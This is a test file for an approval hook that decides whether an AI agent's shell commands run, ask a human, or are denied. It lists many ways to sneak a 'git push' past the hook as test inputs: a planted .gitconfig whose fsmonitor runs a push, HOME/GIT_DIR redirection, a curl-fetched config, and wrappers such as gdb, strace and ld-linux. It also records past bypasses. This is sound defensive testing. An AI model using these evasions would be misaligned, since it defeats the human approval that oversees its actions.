"""The approval policy: rules in the CLI's syntax, a matcher shells cannot fool, the config,
an agent's own rules, and the durable grants and requests."""

from __future__ import annotations

import logging
import shlex
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from legio.app import LegioApp
from legio.castra import Castra
from legio.config import load_config
from legio.errors import CastraError, ConfigError
from legio.fence.guard import PathGuard
from legio.frontends.admin import Admin
from legio.request import Decision
from legio.sessions.gatekeeper import Gatekeeper
from legio.shell.rules import DEFAULT_ASK, Rule, matching, parse_rules, shorten
from legio.store.grants import ApprovalStore
from legio.store.praetorium import Praetorium

PUSH = Rule.parse("Bash(git push:*)")

ASKS = [
    "git push",
    "git push origin main --force",
    "bash -c 'git push'",
    'sh -c "cd repo && git push"',
    "bash -lc 'eval \"git push\"'",
    "env X=1 git push",
    "env -i HOME=/tmp git push",
    "VAR=1 OTHER=2 git push",
    "/usr/bin/git push",
    "git -C some/dir push",
    "git -c user.name=x --no-pager push",
    "make test && git push",
    "ls; git push",
    "true || git push",
    "echo hi | git push",
    "sudo -u legio git push",
    "nohup git push &",
    "echo $(git push)",
    "echo `git push`",
    "git push 2>&1 | tee push.log",
    "cd repo\ngit push",
    "echo 'unbalanced git push",
]
RUNS = ["git status", "echo git push", "git log --grep push", "gitk push", "ls"]


@pytest.mark.parametrize("command", ASKS)
def test_wrapped_and_chained_commands_still_ask(command: str) -> None:
    assert PUSH.matches("Bash", {"command": command})


@pytest.mark.parametrize("command", RUNS)
def test_other_commands_run_unasked(command: str) -> None:
    assert not PUSH.matches("Bash", {"command": command})


words = st.text(alphabet="abcdefghij-_./=", min_size=1, max_size=8)


@given(
    before=st.lists(words, max_size=3),
    after=st.lists(words, max_size=3),
    joiner=st.sampled_from([" && ", "; ", " | ", " || ", "\n"]),
    wrap=st.sampled_from(["{}", "bash -c {q}", "sh -c {q}", "env A=1 {}", "B=2 {}"]),
)
def test_a_push_anywhere_in_a_command_line_asks(
    before: list[str], after: list[str], joiner: str, wrap: str
) -> None:
    push = " ".join(["git", "push", *map(shlex.quote, after)])
    inner = wrap.format(push, q=shlex.quote(push))
    line = joiner.join(part for part in [" ".join(map(shlex.quote, before)), inner] if part)
    assert PUSH.matches("Bash", {"command": line})


def test_rules_of_other_tools() -> None:
    rules = parse_rules(["WebFetch", "Write(/srv/*)", "mcp__memoria_*__publish_*", "Bash(make)"])
    assert [r.text for r in matching(rules, "WebFetch", {"url": "https://x.org"})] == ["WebFetch"]
    assert matching(rules, "Write", {"file_path": "/srv/site/index.html"})[0].tool == "Write"
    assert not matching(rules, "Write", {"file_path": "/home/x"})
    assert matching(rules, "mcp__memoria_vorenus__publish_actum", {})
    assert not matching(rules, "mcp__memoria_vorenus__read_actum", {})
    assert matching(rules, "Bash", {"command": "make"})  # exact: make, not make test
    assert not matching(rules, "Bash", {"command": "make test"})


def test_defaults_cover_pushing_and_publishing() -> None:
    rules = parse_rules(DEFAULT_ASK)
    for command in ["git push", "npm publish", "pnpm publish", "yarn publish", "cargo publish"]:
        assert matching(rules, "Bash", {"command": command}), command
    assert matching(rules, "Bash", {"command": "python -m build && twine upload dist/*"})
    assert matching(rules, "Bash", {"command": "gh release create v1"})


def test_shorten_keeps_one_safe_line() -> None:
    assert shorten("rm -rf /\n\x1b[31mred", 100) == "rm -rf / ⏎ [31mred"
    assert len(shorten("x" * 500, 50)) == 50


def test_config_and_frontmatter_rules(
    write_config: Callable[[str], Path], castra_dir: Path
) -> None:
    config = load_config(write_config('[approvals]\nask = ["WebFetch"]\ntimeout = 2\n'))
    assert (config.approvals.ask, config.approvals.timeout) == (["WebFetch"], 2)
    assert "Bash(git push:*)" in load_config(write_config("")).approvals.ask
    with pytest.raises(ConfigError, match=r"approvals\.ask"):
        load_config(write_config('[approvals]\nask = ["Bash(git push"]\n'))
    prompt = castra_dir / "centuriones" / "vorenus" / "prompt.md"
    text = prompt.read_text()
    prompt.write_text(text.replace("---\n", "---\nask: [WebSearch]\ndaily_usd: 2.5\n", 1))
    settings = Castra(castra_dir).read_centurio("vorenus").settings
    assert (settings.ask, settings.daily_usd) == (["WebSearch"], 2.5)
    prompt.write_text(text.replace("---\n", "---\nask: ['Bash(']\n", 1))
    with pytest.raises(CastraError, match="not a rule"):
        Castra(castra_dir).read_centurio("vorenus")


async def test_grants_and_requests_survive_a_reopen(tmp_path: Path) -> None:
    praetorium = await Praetorium.open(tmp_path / "p.db")
    store = ApprovalStore(praetorium)
    grant = await store.add_grant("vorenus", "Bash(git push:*)")
    assert await store.add_grant("vorenus", "Bash(git push:*)") == grant
    pending = await store.open_request("vorenus", "Bash", "git push")
    done = await store.open_request("pullo", "WebFetch", "https://x.org")
    await store.close_request(done, "deny")
    await praetorium.close()

    praetorium = await Praetorium.open(tmp_path / "p.db")
    store = ApprovalStore(praetorium)
    assert await store.grants() == [grant]
    assert await store.expire_pending() == 1
    assert await store.request_status(pending) == "expired"
    assert await store.request_status(done) == "deny"
    assert await store.request_status(999) is None
    assert await store.revoke(grant.id) == grant
    assert await store.revoke(grant.id) is None
    assert await store.grants() == []
    await praetorium.close()


async def test_approvals_and_revoke_commands(app: LegioApp) -> None:
    admin = Admin(app)
    assert (await admin.run("/approvals"))[-1].endswith("No Always grants.")
    gate = app.engine.sessions.approvals
    assert gate is not None and gate.store is not None
    grant = await gate.store.add_grant("vorenus", "Bash(git push:*)")
    await gate.load()
    page = (await admin.run("/approvals"))[0]
    assert f"#{grant.id} vorenus: Bash(git push:*)" in page
    assert await admin.run(f"/revoke {grant.id}") == [
        f"Revoked #{grant.id}: vorenus asks again before Bash(git push:*)."
    ]
    assert gate.pending("vorenus", "", gate.rules, "Bash", {"command": "git push"})
    assert await admin.run(f"/revoke {grant.id}") == [
        f"No Always grant #{grant.id}; /approvals lists them."
    ]
    assert await admin.run("/revoke x") == ["Use /revoke <id>, with an id from /approvals."]


async def test_the_path_guard_denies_here_too_and_grants_silence_the_hook(
    castra_dir: Path, write_config: Callable[[str], Path]
) -> None:
    config = load_config(write_config('[approvals]\nask = ["Read", "Bash(git push:*)"]\n'))
    gate = Gatekeeper(config)
    guard = PathGuard(Castra(castra_dir), "vorenus", config.path)
    hook = gate.hook("vorenus", gate.agent_rules(["WebFetch"]), guard)

    async def decision(tool: str, tool_input: dict[str, str], session: str = "s1") -> str:
        data = {"tool_name": tool, "tool_input": tool_input, "session_id": session}
        out = await hook(data, "toolu_1", None)
        return str(out.get("hookSpecificOutput", {}).get("permissionDecision", "run"))

    protected = str(castra_dir.resolve() / "praetorium.db-wal")
    assert await decision("Read", {"file_path": protected}) == "deny"  # as the guard does
    assert await decision("Read", {"file_path": "/etc/hostname"}) == "ask"
    assert await decision("WebFetch", {"url": "https://x.org"}) == "ask"  # the agent's own rule
    assert await decision("Bash", {"command": "git status"}) == "run"
    assert await decision("Bash", {"command": "bash -c 'git push'"}) == "ask"
    await gate._remember(Decision("session"), "vorenus", "s1", ("Bash(git push:*)",))
    assert await decision("Bash", {"command": "git push"}) == "run"
    assert await decision("Bash", {"command": "git push"}, session="s2") == "ask"


async def test_approvals_and_check_list_each_agents_own_rules(
    castra_dir: Path, fake_cli: object
) -> None:
    from legio.cli import check_config
    from tests.legion import fake_cli_config

    prompt = castra_dir / "centuriones" / "pullo" / "prompt.md"
    prompt.write_text(prompt.read_text().replace("---\n", "---\nask: ['Bash(make deploy)']\n", 1))
    config = fake_cli_config(castra_dir, fake_cli)  # type: ignore[arg-type]
    app = await LegioApp.open(config)
    try:
        page = (await Admin(app).run("/approvals"))[0]
        assert "for every agent ([approvals] ask): Bash(git push:*)" in page
        assert "…and for pullo (its own ask:): Bash(make deploy)." in page
    finally:
        await app.close()
    report = "\n".join(check_config(config).lines)
    assert "pullo also asks before Bash(make deploy) (its ask:)" in report


PLANTED = (
    "printf '[core]\\n\\tfsmonitor = git push /srv/bare.git HEAD:refs/heads/x; false\\n' "
    "> /srv/h/.gitconfig && HOME=/srv/h git status --short"
)
# The same trick in other spellings: each must be refused (or asked), never run unasked.
PLANTED_VARIANTS = [
    PLANTED,
    "mkdir -p /srv/h && echo '[core] fsmonitor = \"git push /b x\"' > /srv/h/.gitconfig; "
    "HOME=/srv/h git status",
    "printf x > /srv/h/cfg && GIT_CONFIG_GLOBAL=/srv/h/cfg git status",
    "mkdir -p /srv/x/git && printf x > /srv/x/git/config && XDG_CONFIG_HOME=/srv/x git status",
    "printf x > /srv/h/.gitconfig && env HOME=/srv/h git status",
    "printf x > /srv/h/.gitconfig; export HOME=/srv/h; git status",
    "printf x > /srv/r/.git/config && GIT_DIR=/srv/r/.git git status",
    "printf x > /srv/h/.gitconfig && cd /srv/h && HOME=. git status",
    "sh -c 'printf x > /srv/h/.gitconfig && HOME=/srv/h git status'",
    "cp /srv/planted /srv/h/.gitconfig && HOME=/srv/h git diff",
    "python3 -c \"open('/srv/h/.gitconfig','a').close()\" && HOME=/srv/h git status",
    "curl -o /srv/h/.gitconfig http://x/ && HOME=/srv/h git log",
    "ln -s /srv/planted /srv/h/.gitconfig; HOME=/srv/h git status",
    "tee /srv/h/.gitconfig < /srv/planted && GIT_CONFIG_GLOBAL=/srv/h/.gitconfig git status",
]


def _verdict(out: dict[str, object]) -> str:
    specific = out.get("hookSpecificOutput")
    if isinstance(specific, dict):
        return str(specific.get("permissionDecision"))
    return "run"


async def test_one_verdict_the_ask_hook_denies_what_the_path_guard_refuses(
    castra_dir: Path, write_config: Callable[[str], Path], caplog: pytest.LogCaptureFixture
) -> None:
    """Both hooks give the same verdict: a call the path guard refuses is denied by the ask
    hook too (never "nothing to ask"), and a guard that fails denies; each verdict is
    logged at debug with its reason."""
    config = load_config(write_config('[approvals]\nask = ["Bash(git push:*)"]\n'))
    gate = Gatekeeper(config)
    guard = PathGuard(Castra(castra_dir), "vorenus", config.path)
    hook = gate.hook("vorenus", gate.agent_rules(), guard)
    caplog.set_level(logging.DEBUG, logger="legio.sessions.gatekeeper")
    protected = str(castra_dir.resolve() / "praetorium.db-wal")
    data = {"tool_name": "Bash", "tool_input": {"command": f"cat {protected}; git push"}}
    out = await hook(data, "toolu_1", None)
    assert _verdict(out) == "deny"
    assert "Legio's policy" in str(out)
    assert any("deny" in r.getMessage() and "guard" in r.getMessage() for r in caplog.records)

    class Broken(PathGuard):
        def check(self, tool: str, tool_input: dict[str, object], cwd: str | None = None) -> str:
            raise RuntimeError("cannot tell")

    broken = gate.hook("vorenus", gate.agent_rules(), Broken(Castra(castra_dir), "vorenus", None))
    assert _verdict(await broken({"tool_name": "Read", "tool_input": {}}, "t", None)) == "deny"


@pytest.mark.parametrize("command", PLANTED_VARIANTS)
async def test_a_line_that_plants_a_config_and_runs_git_is_refused(
    castra_dir: Path, write_config: Callable[[str], Path], command: str
) -> None:
    """The CLI was seen to run such a line without calling ``can_use_tool`` although the
    hook said "ask" (issue 44): the hook refuses it outright."""
    config = load_config(write_config(""))
    gate = Gatekeeper(config)
    guard = PathGuard(Castra(castra_dir), "vorenus", config.path)
    hook = gate.hook("vorenus", gate.agent_rules(), guard)
    out = await hook({"tool_name": "Bash", "tool_input": {"command": command}}, "t1", None)
    assert _verdict(out) == "deny", command
    assert "in another call" in str(out)
    # split in two calls, the git line is asked about as before
    second = {"tool_name": "Bash", "tool_input": {"command": "HOME=/srv/h git status"}}
    assert _verdict(await hook(second, "t2", None)) == "ask"
    first = {"tool_name": "Bash", "tool_input": {"command": "printf x > /srv/h/.gitconfig"}}
    assert _verdict(await hook(first, "t3", None)) == "run"


@pytest.mark.parametrize(
    "command",
    [
        "HOME=/srv/a git config --global core.fsmonitor 'git push /b x' && HOME=/srv/a git status",
        "GIT_CONFIG_GLOBAL=/srv/b/c git config --global core.fsmonitor x; "
        "GIT_CONFIG_GLOBAL=/srv/b/c git status",
        "git config --file /srv/c/.gitconfig core.fsmonitor x && HOME=/srv/c git status",
        "HOME=/srv/d bash -c 'printf x >> ~/.gitconfig; git status'",
        "export HOME=/srv/h; git config --global core.fsmonitor x; git status",
    ],
)
async def test_git_writing_its_own_config_then_running_is_asked_or_refused(
    castra_dir: Path, write_config: Callable[[str], Path], command: str
) -> None:
    """Tried through the real CLI (each asked or refused, nothing pushed); kept here."""
    config = load_config(write_config(""))
    gate = Gatekeeper(config)
    hook = gate.hook("vorenus", gate.agent_rules(), PathGuard(Castra(castra_dir), "vorenus", None))
    out = await hook({"tool_name": "Bash", "tool_input": {"command": command}}, "t", None)
    assert _verdict(out) in ("ask", "deny"), command


@pytest.mark.parametrize(
    "command",
    [
        "setarch x86_64 git push /srv/bare.git HEAD:refs/heads/x",
        "/lib64/ld-linux-x86-64.so.2 /usr/bin/git push /srv/bare.git HEAD:refs/heads/x",
        "prlimit --nofile=200 git push /srv/bare.git HEAD:refs/heads/x",
        "unshare -r git push /srv/b.git",
        "strace -f -o /dev/null git push /srv/b.git",
        "gdb --args git push /srv/b.git",
        "make --eval='x:;git push /srv/b.git' x",
        "sudo GIT_DIR=/x git push /srv/bare.git",
        "sudo HOME=/srv/h git status",
    ],
)
async def test_the_hook_asks_for_a_push_behind_a_program_it_does_not_know(
    castra_dir: Path, write_config: Callable[[str], Path], command: str
) -> None:
    """An attacker's pass: each of these got "nothing to ask" from the hook and pushed."""
    config = load_config(write_config('[approvals]\nask = ["Bash(git push:*)"]\n'))
    gate = Gatekeeper(config)
    hook = gate.hook("vorenus", gate.agent_rules(), PathGuard(Castra(castra_dir), "vorenus", None))
    out = await hook({"tool_name": "Bash", "tool_input": {"command": command}}, "t1", None)
    assert _verdict(out) == "ask", command
